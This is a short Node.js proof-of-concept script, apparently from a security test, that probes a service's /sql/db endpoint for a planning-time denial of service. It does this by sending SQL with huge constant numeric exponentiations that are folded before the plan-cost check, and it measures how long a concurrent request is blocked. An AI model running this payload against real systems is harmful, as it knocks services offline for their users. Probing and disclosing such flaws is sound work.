// Probe: /sql/db plan-time constant folding. The guard allows any operator (A_Expr) and the planner folds
// constant expressions during EXPLAIN, before the plan-cost check; the estimate is ~0.01.
// Usage: node probe/sql-planning-dos.mjs http://127.0.0.1:42069 [terms N] [exponent]
const base = process.argv[2] ?? "http://127.0.0.1:42069";
const n = Number(process.argv[3] ?? 4);
const exp = Number(process.argv[4] ?? 60000);
const term = `length((9.0::numeric ^ ${exp})::text)`;
const sql = `SELECT ${Array.from({ length: n }, () => term).join(" + ")} AS x FROM award_winner LIMIT 1`;
const q = encodeURIComponent(JSON.stringify({ json: { sql, params: [] } }));
console.log(`sql: ${sql.length} chars, ${n} terms`);
// a concurrent cheap request measures how long the indexer is blocked
const t0 = Date.now();
const slow = fetch(`${base}/sql/db?sql=${q}`).then(async (r) => `HTTP ${r.status} ${(await r.text()).slice(0, 160)} after ${Date.now() - t0} ms`);
await new Promise((r) => setTimeout(r, 200));
const t1 = Date.now();
const cheap = await fetch(`${base}/bounties?limit=1`).then((r) => r.status);
console.log(`concurrent GET /bounties: HTTP ${cheap} after ${Date.now() - t1} ms`);
console.log(`slow statement: ${await slow}`);
